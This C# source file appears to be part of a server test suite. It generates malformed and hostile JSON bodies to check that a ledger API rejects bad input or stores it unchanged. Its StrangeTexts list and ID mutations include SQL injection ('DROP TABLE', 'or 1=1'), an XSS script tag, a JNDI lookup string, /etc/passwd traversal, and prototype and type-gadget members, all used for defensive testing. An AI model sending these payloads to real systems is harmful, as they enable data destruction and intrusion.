using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Ledger.ServerTests.BadInput;

/// <summary>A body with one fault in it.</summary>
/// <param name="What">What is wrong, and where, for whoever reads a failure.</param>
/// <param name="Text">Free text that must be in the event as it is, if the command is taken.</param>
internal sealed record Mutation(string What, byte[] Body, string? Text = null)
{
    public Mutation(string what, string body) : this(what, Encoding.UTF8.GetBytes(body))
    {
    }
}

/// <summary>What can be wrong with a body, one fault at a time.</summary>
internal static class Mutations
{
    private const string Here = "\"@here@\"";

    private static readonly UTF8Encoding Utf8 = new(false);

    /// <summary>Bodies that are no command at all.</summary>
    public static IEnumerable<Mutation> NoCommand(JsonObject body)
    {
        var text = body.ToJsonString();
        yield return new("nothing", "");
        yield return new("white space", " \r\n\t");
        foreach (var other in new[] { "{}", "null", "[]", "[{}]", "\"a string\"", "0", "true", "NaN", "{", "}", "[", "\"", "'", "{]", "{\"", "undefined" }) yield return new(other, other);
        yield return new("a list of it", $"[{text}]");
        yield return new("it twice", text + text);
        yield return new("it, and then more", text + "x");
        yield return new("it, and then NUL", text + "\0");
        yield return new("NUL, and then it", "\0" + text);
        yield return new("a comment in it", "/* a comment */" + text);
        yield return new("a comma at its end", text[..^1] + ",}");
        yield return new("single quotes", text.Replace('"', '\''));
        yield return new("a byte order mark", [0xEF, 0xBB, 0xBF, .. Utf8.GetBytes(text)]);
        yield return new("UTF-16", Encoding.Unicode.GetBytes(text));
        yield return new("UTF-16, big-endian, marked", [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(text)]);
        yield return new("UTF-32", Encoding.UTF32.GetBytes(text));
        yield return new("bytes", [.. Enumerable.Range(0, 256).Select(b => (byte)b)]);
        foreach (var (open, name) in new[] { ("[", "lists"), ("{\"a\":", "objects") })
        {
            yield return new($"{name} nested deeply, not closed", Repeat(open, 60_000 / open.Length));
            yield return new($"{name} nested deeply", Repeat(open, 20_000 / open.Length) + "1" + Repeat(open == "[" ? "]" : "}", 20_000 / open.Length));
        }
    }

    /// <summary>One member that no command of this shape can have: what comes back is 400.</summary>
    public static IEnumerable<Mutation> WrongMember(JsonObject body)
    {
        foreach (var (steps, node) in Places(body))
        {
            var name = Name(steps);
            foreach (var (kind, raw) in WrongKinds(node)) yield return new($"{name} is {kind}", Put(body, steps, raw));
            foreach (var (kind, raw) in WrongValues(node)) yield return new($"{name} is {kind}", Put(body, steps, raw));
            yield return new($"{name} is nested deeply", Put(body, steps, Repeat("[", 20_000) + Repeat("]", 20_000)));
            if (steps is [.., string]) yield return new($"{name} breaks off", Put(body, steps, ""));

            if (node is JsonValue value && value.GetValueKind() == JsonValueKind.String)
            {
                foreach (var (kind, escape) in NoText) yield return new($"{name} has {kind}", Put(body, steps, $"\"a{escape}b\""));
                foreach (var (kind, bytes) in NoUtf8) yield return new($"{name} has {kind}", PutBytes(body, steps, bytes));
            }
            if (node is not JsonObject members) continue;
            yield return new($"{name} has a member that nobody knows", Put(body, steps, With(members, "\"nobodyKnows\":1")));
            yield return new($"{name} has a member without a name", Put(body, steps, With(members, "\"\":1")));
            yield return new($"{name} has a member with half a character in its name", Put(body, steps, With(members, "\"\\ud83d\":1")));
            yield return new($"{name} has a member with NUL in its name", Put(body, steps, With(members, "\"a\\u0000\":1")));
            yield return new($"{name} has a member with a long name", Put(body, steps, With(members, $"\"{Repeat("n", 20_000)}\":1")));
            yield return new($"{name} has __proto__", Put(body, steps, With(members, "\"__proto__\":{}")));
            yield return new($"{name} has $type", Put(body, steps, With(members, "\"$type\":\"System.Object\"")));
            foreach (var (member, same) in members)
            {
                yield return new($"{name} has {member} twice", Put(body, steps, With(members, $"\"{member}\":{same?.ToJsonString() ?? "null"}")));
            }
        }
    }

    /// <summary>One reference to something that is not there.</summary>
    public static IEnumerable<Mutation> WrongReference(JsonObject body) =>
        from place in Places(body)
        where place.Node is JsonValue value && value.TryGetValue<string>(out var text) && Guid.TryParse(text, out _)
        from id in new[] { Guid.Empty, OnRecord.Nothing, Guid.AllBitsSet }
        select new Mutation($"{Name(place.Steps)} is the id {id}", Put(body, place.Steps, JsonSerializer.Serialize(id)));

    /// <summary>One member that may be refused or taken, as its rules have it; what is taken is kept as it was sent.</summary>
    public static IEnumerable<Mutation> StrangeMember(JsonObject body)
    {
        foreach (var (steps, node) in Places(body).Where(p => p.Steps.Count > 0))
        {
            var name = Name(steps);
            yield return new($"{name} is null", Put(body, steps, "null"));
            if (steps[^1] is string) yield return new($"{name} is missing", Without(body, steps));
            if (node is JsonArray { Count: > 0 } items)
            {
                yield return new($"{name} is empty", Put(body, steps, "[]"));
                yield return new($"{name} has the same twice", Put(body, steps, $"[{items[0]!.ToJsonString()},{items[0]!.ToJsonString()}]"));
                yield return new($"{name} has a null in it", Put(body, steps, "[null]"));
                yield return new($"{name} has very many", Put(body, steps, $"[{string.Join(',', Enumerable.Repeat(items[0]!.ToJsonString(), Math.Min(5_000, 40_000 / items[0]!.ToJsonString().Length)))}]"));
            }
            if (node is not JsonValue value) continue;
            if (value.GetValueKind() == JsonValueKind.String)
            {
                foreach (var text in StrangeTexts)
                {
                    yield return new Mutation($"{name} is {text[..Math.Min(20, text.Length)]}", Put(body, steps, JsonSerializer.Serialize(text))) with { Text = IsLookedUp(steps) ? null : text };
                }
            }
            if (value.GetValueKind() == JsonValueKind.Number) foreach (var number in new[] { "0", "1.0", "1e0", "2147483647" }) yield return new($"{name} is {number}", Put(body, steps, number));
        }
    }

    /// <summary>Text that is not in the event itself: the ledger keeps it by its hash, or finds it in what it keeps.</summary>
    private static bool IsLookedUp(IReadOnlyList<object> steps) => steps is [.., "revision", "text"] or ["text"] or [.., "prefix"] or [.., "suffix"];

    /// <summary>The body, cut off after every byte but the last.</summary>
    public static IEnumerable<Mutation> CutOff(JsonObject body)
    {
        var bytes = Utf8.GetBytes(body.ToJsonString());
        return Enumerable.Range(1, bytes.Length - 1).Select(length => new Mutation($"cut off after {length} bytes", bytes[..length]));
    }

    /// <summary>Free text that is hostile to somebody further on, and to the ledger just text.</summary>
    private static readonly string[] StrangeTexts =
    [
        "'; DROP TABLE ledger.mt_events; --", "<script>alert(1)</script>", "{0} {Name} %s %n ${jndi:ldap://example.org/a}", "../../../etc/passwd", "\u202Etxet desrever\u202C", "e\u0301\u0323\u200D👨‍👩‍👧‍👦",
        Repeat("long", 2_500), "", " ", "\u200B", "none", "null", "1e5", "=1+1", "\\u0000", "\\", "\uFEFFmarked",
    ];

    /// <summary>As they stand in JSON: characters that no text of a command may have.</summary>
    private static readonly (string Kind, string Escape)[] NoText =
    [
        ("NUL", "\\u0000"), ("a control character", "\\u0007"), ("escape", "\\u001b[31m"), ("delete", "\\u007f"), ("a C1 control character", "\\u0085"), ("a raw C1 control character", "\u009b"),
        ("half a character", "\\ud83d"), ("the other half", "\\ude00"), ("two halves the wrong way round", "\\ude00\\ud83d"), ("no character", "\\ufffe"), ("a broken escape", "\\u12"), ("a raw line break", "\n"), ("a raw NUL", "\0"),
    ];

    private static readonly (string Kind, byte[] Bytes)[] NoUtf8 =
    [
        ("a byte that UTF-8 has not", [0xFF]), ("a character that breaks off", [0xE2, 0x82]), ("a long form of NUL", [0xC0, 0x80]), ("a long form of a slash", [0xE0, 0x80, 0xAF]),
        ("half a character in UTF-8", [0xED, 0xA0, 0xBD]), ("what lies behind Unicode", [0xF4, 0x90, 0x80, 0x80]),
    ];

    private static IEnumerable<(string Kind, string Raw)> WrongKinds(JsonNode node)
    {
        var kind = node.GetValueKind();
        if (kind != JsonValueKind.String) yield return ("a string", "\"1\"");
        if (kind != JsonValueKind.Number) yield return ("a number", "12");
        if (kind is not (JsonValueKind.True or JsonValueKind.False)) yield return ("true", "true");
        if (kind != JsonValueKind.Array) yield return ("a list", "[1,\"a\",{}]");
        if (kind != JsonValueKind.Object) yield return ("an object", "{\"a\":{\"b\":[]}}");
        yield return ("no JSON", "NaN");
    }

    private static IEnumerable<(string Kind, string Raw)> WrongValues(JsonNode node)
    {
        if (node.GetValueKind() == JsonValueKind.Number)
        {
            foreach (var number in new[] { "-1", "1.5", "-0.1", "1e400", "-1e400", "9223372036854775808", "99999999999999999999999999999999", "01", "+1", "1_000", "0x1", ".5", "1." }) yield return (number, number);
        }
        if (node.GetValueKind() != JsonValueKind.String) yield break;
        var text = node.GetValue<string>();
        if (Guid.TryParse(text, out _))
        {
            foreach (var id in new[] { "", "not-an-id", text[..^1], text + "0", "{" + text + "}", text.Replace("-", "", StringComparison.Ordinal), "1", "' or 1=1 --" }) yield return ($"the id \"{id}\"", JsonSerializer.Serialize(id));
        }
        else if (text.EndsWith('Z') && DateTimeOffset.TryParse(text, CultureInfo.InvariantCulture, out _))
        {
            foreach (var instant in new[] { "", "yesterday", "2018-02-30T00:00:00Z", "0001-01-01T00:00:00+14:00", "2018-05-07T24:00:01Z", "10000-01-01T00:00:00Z", "-infinity", "1525705445", "2018-05-07 15:04:05 PST" }) yield return ($"the instant {instant}", JsonSerializer.Serialize(instant));
        }
    }

    /// <summary>Every place in a body: the body itself, its members, their members and items.</summary>
    private static IEnumerable<(IReadOnlyList<object> Steps, JsonNode Node)> Places(JsonNode body) => Places(body, []);

    private static IEnumerable<(IReadOnlyList<object> Steps, JsonNode Node)> Places(JsonNode node, IReadOnlyList<object> steps)
    {
        if (steps.Count > 0 || node is JsonObject) yield return (steps, node);
        var inner = node switch
        {
            JsonObject members => members.Where(m => m.Value is not null).SelectMany(m => Places(m.Value!, [.. steps, m.Key])),
            JsonArray items => items.SelectMany((item, i) => Places(item!, [.. steps, i])),
            _ => [],
        };
        foreach (var place in inner) yield return place;
    }

    private static string Name(IReadOnlyList<object> steps) => steps.Count == 0 ? "the body" : string.Join('.', steps);

    /// <summary>The body with other JSON, or what is none, in one place.</summary>
    private static string Put(JsonObject body, IReadOnlyList<object> steps, string raw) => steps.Count == 0 ? raw : Marked(body, steps).Replace(Here, raw, StringComparison.Ordinal);

    private static byte[] PutBytes(JsonObject body, IReadOnlyList<object> steps, byte[] bytes)
    {
        var parts = Marked(body, steps).Split(Here);
        return [.. Utf8.GetBytes(parts[0] + "\""), .. bytes, .. Utf8.GetBytes("\"" + parts[1])];
    }

    private static string Marked(JsonObject body, IReadOnlyList<object> steps)
    {
        var copy = body.DeepClone();
        Set(Parent(copy, steps), steps[^1], Here.Trim('"'));
        return copy.ToJsonString();
    }

    private static string Without(JsonObject body, IReadOnlyList<object> steps)
    {
        var copy = body.DeepClone();
        Parent(copy, steps).AsObject().Remove((string)steps[^1]);
        return copy.ToJsonString();
    }

    private static JsonNode Parent(JsonNode node, IReadOnlyList<object> steps) => steps.SkipLast(1).Aggregate(node, (n, step) => step is int i ? n[i]! : n[(string)step]!);

    private static void Set(JsonNode parent, object step, string value)
    {
        if (step is int i) parent[i] = value;
        else parent[(string)step] = value;
    }

    private static string With(JsonObject members, string one) => members.Count == 0 ? $"{{{one}}}" : members.ToJsonString()[..^1] + "," + one + "}";

    private static string Repeat(string text, int times) => new StringBuilder().Insert(0, text, times).ToString();
}
